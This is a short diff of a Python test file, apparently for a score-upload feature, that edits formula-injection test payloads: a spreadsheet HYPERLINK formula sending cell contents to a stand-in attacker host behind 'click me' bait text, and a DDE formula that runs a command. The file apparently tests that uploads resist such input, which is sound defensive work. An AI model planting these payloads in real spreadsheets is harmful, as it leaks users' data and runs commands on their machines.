@@ -24,7 +24,7 @@ from tests.domain.test_admission import scene  # noqa: F401  (fixture)
 from tests.domain.test_scores import TEMPLATE, exam, imported_rows, refused_rows, upload  # noqa: F401
 from tests.factories import PASSWORD
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1&B1&C1,"点我查看")'
+HYPERLINK = '=HYPERLINK("http://e.vil/?"&A1&C1,"点我")'  # fits a name (50)
 DDE = "=cmd|' /C calc'!A0"
 PAYLOADS = {
     "name": HYPERLINK,
